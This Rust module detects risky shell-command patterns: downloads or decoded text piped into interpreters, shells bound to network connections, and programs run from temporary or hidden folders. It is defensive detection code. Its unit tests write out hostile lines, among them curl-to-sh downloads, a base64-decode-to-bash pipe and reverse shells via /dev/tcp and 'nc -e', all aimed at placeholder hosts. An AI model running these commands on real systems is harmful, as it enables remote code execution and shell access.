//! What of a script is worth telling: it runs what it downloads or decodes, or hides what it runs.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

use super::MAX_DEPTH;
use super::programs::{
    WRAPPERS, base_name, behind_env, behind_options, is_language, is_shell, programs, script_option,
};
use super::shell::Script;

/// What is worth telling of a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Sign {
    /// It feeds what it downloads to an interpreter.
    RunsDownload,
    /// It feeds what it decodes to an interpreter.
    RunsDecoded,
    /// It opens a connection through the shell, or gives a shell to one.
    ShellConnection,
    /// It starts a program in a folder where everyone may put one.
    TemporaryProgram,
    /// It starts a program in a hidden folder.
    HiddenProgram,
}

impl Sign {
    /// Every sign, with the word by which facts name it.
    pub const NAMES: [(&'static str, Self); 5] = [
        ("runs-download", Self::RunsDownload),
        ("runs-decoded", Self::RunsDecoded),
        ("shell-connection", Self::ShellConnection),
        ("temporary-program", Self::TemporaryProgram),
        ("hidden-program", Self::HiddenProgram),
    ];

    /// Returns what it means, in words.
    #[must_use]
    pub fn words(self) -> &'static str {
        match self {
            Self::RunsDownload => "feeds a download to an interpreter",
            Self::RunsDecoded => "feeds decoded text to an interpreter",
            Self::ShellConnection => "ties a shell to a network connection",
            Self::TemporaryProgram => "starts a program in a folder where everyone may put one",
            Self::HiddenProgram => "starts a program in a hidden folder",
        }
    }
}
/// Returns what is worth telling of a script.
#[must_use]
pub fn signs(script: &Script) -> BTreeSet<Sign> {
    let mut out = BTreeSet::new();
    signs_of(script, 0, &mut out);
    for (program, folder) in programs(script) {
        let path = match (&folder, program.starts_with('/')) {
            (Some(folder), false) if program.contains('/') => format!("{folder}/{program}"),
            _ => program,
        };
        if ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/run/user/"].iter().any(|folder| path.starts_with(folder))
        {
            out.insert(Sign::TemporaryProgram);
        }
        let hidden = |part: &str| part.starts_with('.') && part.chars().any(|character| character != '.');
        if path.starts_with('/') && path.split('/').any(hidden) {
            out.insert(Sign::HiddenProgram);
        }
    }
    out
}

fn signs_of(script: &Script, depth: usize, out: &mut BTreeSet<Sign>) {
    if depth > MAX_DEPTH {
        return;
    }
    for pipeline in script {
        let mut fed = BTreeSet::new();
        for simple in pipeline {
            let bare = bare(&simple.words);
            let name = bare.first().map(|word| base_name(word)).unwrap_or_default();
            if reads_code(bare) {
                out.extend(&fed);
            }
            let inner: Vec<Script> = match script_option(bare.get(1..).unwrap_or_default()) {
                Some(inner) if is_shell(name) || name == "su" => vec![super::script(inner)],
                _ if name == "eval" => vec![super::script(&bare.get(1..).unwrap_or_default().join(" "))],
                _ => Vec::new(),
            };
            for inner in &inner {
                signs_of(inner, depth + 1, out);
            }
            for nested in &simple.nested {
                signs_of(nested, depth + 1, out);
                let made = made(nested, depth + 1);
                if is_shell(name) || is_language(name) || matches!(name, "eval" | "." | "source") {
                    out.extend(&made);
                }
                fed.extend(made);
            }
            fed.extend(made_by(bare));
            let opens = |text: &String| text.contains("/dev/tcp/") || text.contains("/dev/udp/");
            if simple.redirects.iter().chain(&simple.words).any(opens) || gives_shell(bare) {
                out.insert(Sign::ShellConnection);
            }
        }
    }
}

/// What a script makes that should not be run.
fn made(script: &Script, depth: usize) -> BTreeSet<Sign> {
    let mut out = BTreeSet::new();
    for simple in script.iter().flatten() {
        out.extend(made_by(bare(&simple.words)));
        if depth < MAX_DEPTH {
            simple.nested.iter().for_each(|nested| out.extend(made(nested, depth + 1)));
        }
    }
    out
}

fn made_by(words: &[String]) -> Option<Sign> {
    let [program, arguments @ ..] = words else { return None };
    let has = |options: &[&str]| arguments.iter().any(|word| options.contains(&word.as_str()));
    match base_name(program) {
        "curl" | "wget" | "fetch" | "aria2c" | "lwp-request" | "GET" | "lynx" | "ftp" | "tftp" => {
            Some(Sign::RunsDownload)
        }
        "base64" | "base32" | "basenc" if has(&["-d", "--decode", "-D", "-di", "-id"]) => Some(Sign::RunsDecoded),
        "xxd" if arguments.iter().any(|word| word.starts_with("-r") || word == "-pr") => Some(Sign::RunsDecoded),
        "openssl" if has(&["-d"]) => Some(Sign::RunsDecoded),
        _ => None,
    }
}

/// Returns the words of the program itself, behind what only runs it.
fn bare(mut words: &[String]) -> &[String] {
    while let [program, arguments @ ..] = words {
        let name = base_name(program);
        if name == "env" {
            words = behind_env(arguments);
        } else if let Some((_, options, before)) = WRAPPERS.iter().find(|(wrapper, ..)| *wrapper == name) {
            if name == "flock" && script_option(arguments).is_some() {
                return words;
            }
            words = behind_options(arguments, options).get(*before..).unwrap_or_default();
        } else {
            return words;
        }
    }
    words
}

/// Whether a command takes its program from its input.
fn reads_code(words: &[String]) -> bool {
    let [program, arguments @ ..] = words else { return false };
    let first = arguments.iter().find(|word| !word.starts_with('-') || word.as_str() == "-");
    if is_shell(program) {
        let says_input = arguments
            .iter()
            .any(|word| word.strip_prefix('-').is_some_and(|flags| !flags.starts_with('-') && flags.contains('s')));
        return script_option(arguments).is_none()
            && (says_input || first.is_none_or(|word| word == "-" || word == "/dev/stdin"));
    }
    let is_inline =
        arguments.iter().any(|word| matches!(word.as_str(), "-c" | "-m" | "-e" | "-E" | "-r" | "-n" | "-p"));
    is_language(program) && !is_inline && first.is_none_or(|word| word == "-" || word == "/dev/stdin")
}

/// Whether a command gives a shell to a connection.
fn gives_shell(words: &[String]) -> bool {
    let [program, arguments @ ..] = words else { return false };
    match base_name(program) {
        "nc" | "ncat" | "netcat" | "nc.traditional" => arguments.iter().any(|word| {
            matches!(word.as_str(), "--exec" | "--sh-exec" | "-c")
                || word.strip_prefix('-').is_some_and(|flags| !flags.starts_with('-') && flags.ends_with('e'))
        }),
        "socat" => arguments.iter().any(|word| {
            let word = word.to_ascii_lowercase();
            word.starts_with("exec:") || word.starts_with("system:")
        }),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::super::script;
    use super::*;

    #[test]
    fn signs_are_told_apart() {
        let check = |text: &str, expected: &[Sign]| {
            let found: Vec<Sign> = signs(&script(text)).into_iter().collect();
            assert_eq!(found, expected, "{text:?}");
        };
        check("curl -fsS https://host.example/x | sh", &[Sign::RunsDownload]);
        check("curl 'https://host.example/x?a=1&b=2' 2>/dev/null | tee /x | sudo bash -s -- -a", &[Sign::RunsDownload]);
        check("wget -qO- https://host.example | python3 -", &[Sign::RunsDownload]);
        check("bash -c \"$(curl -fsSL https://host.example)\"", &[Sign::RunsDownload]);
        check("bash <(curl https://host.example)", &[Sign::RunsDownload]);
        check("sh -c 'curl https://host.example|sh'", &[Sign::RunsDownload]);
        check("eval \"$(wget -qO- https://host.example)\"", &[Sign::RunsDownload]);
        check("curl -fsS https://host.example/ping >/dev/null", &[]);
        check("curl https://host.example | grep sh", &[]);
        check("curl https://host.example | python3 -m json.tool", &[]);
        check("curl https://host.example || sh /opt/alarm.sh", &[]);
        check("curl https://host.example; sh", &[]);
        check("echo aGk= | base64 -d | bash", &[Sign::RunsDecoded]);
        check("base64 -d /srv/a > /srv/b", &[]);
        check("base64 /srv/a | sh", &[]);
        check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", &[Sign::ShellConnection]);
        check("nc -e /bin/sh 192.0.2.1 4444", &[Sign::ShellConnection]);
        check("nc -z 192.0.2.1 22", &[]);
        check("/tmp/x", &[Sign::TemporaryProgram]);
        check("sh /dev/shm/x", &[Sign::TemporaryProgram]);
        check("cd /tmp && ./x", &[Sign::TemporaryProgram]);
        check("find /tmp -mtime +7 -delete", &[]);
        check("/usr/lib/.x/y", &[Sign::HiddenProgram]);
        check("/opt/../usr/bin/x /srv/.cache", &[]);
        check("echo '* | sh'", &[]);
    }
}
